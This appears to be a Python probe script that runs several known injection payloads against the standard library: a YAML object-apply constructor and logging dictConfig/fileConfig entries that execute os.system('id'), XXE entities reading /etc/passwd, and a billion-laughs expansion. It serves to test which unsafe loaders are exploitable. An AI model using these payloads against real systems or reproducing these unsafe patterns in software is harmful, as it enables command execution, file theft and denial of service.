import configparser
import importlib
import io
import logging.config
import re
import xml.etree.ElementTree as ET
import xml.sax


def attempt(name, act):
    try:
        print(f"{name}: {act()!r}")
    except BaseException as error:
        cause = error.__cause__ or error
        print(f"{name}: {type(error).__name__} {getattr(cause, 'code', '') or ''}".rstrip())


def construct(document):
    """What `yaml.load` without a safe loader does with `!!python/object/apply`."""
    match = re.match(r"!!python/object/apply:([\w.]+)\.(\w+)\s+\[(.*)\]", document)
    return getattr(importlib.import_module(match[1]), match[2])(*[part.strip("'\" ") for part in match[3].split(",")])


attempt("yaml system", lambda: construct("!!python/object/apply:os.system ['id']"))
attempt("yaml open", lambda: construct("!!python/object/apply:builtins.open ['/etc/passwd']"))


def logger(**handler):
    logging.config.dictConfig({"version": 1, "handlers": {"h": handler}, "root": {"handlers": ["h"]}})


attempt("dictConfig factory", lambda: logger(**{"()": "os.system", "command": "id"}))
attempt("dictConfig open", lambda: logger(**{"()": "builtins.open", "file": "/etc/passwd"}))
attempt("dictConfig file", lambda: logger(**{"class": "logging.FileHandler", "filename": "{{root}}/planted.log"}))
attempt("dictConfig ext", lambda: logger(**{"class": "logging.StreamHandler", "stream": "ext://os.environ"}))


def by_ini():
    text = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=__import__('os').system('id')\nargs=()\n"
    parser = configparser.ConfigParser()
    parser.read_string(text)
    logging.config.fileConfig(parser)


attempt("fileConfig", by_ini)
attempt("listen", lambda: logging.config.listen(9030).start())

XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
attempt("external entity", lambda: ET.fromstring(XXE).text)
attempt("laughs", lambda: len(ET.fromstring("<!DOCTYPE a [<!ENTITY b '" + "x" * 1000 + "'>" + "".join(f"<!ENTITY b{n} '{'&b' + str(n - 1) + ';' if n > 1 else '&b;'}{'&b' + str(n - 1) + ';' if n > 1 else '&b;'}'>" for n in range(1, 30)) + "]><a>&b29;</a>").text))


def sax():
    parser = xml.sax.make_parser()
    parser.setFeature(xml.sax.handler.feature_external_ges, True)
    parser.parse(io.StringIO(XXE))


attempt("sax", sax)
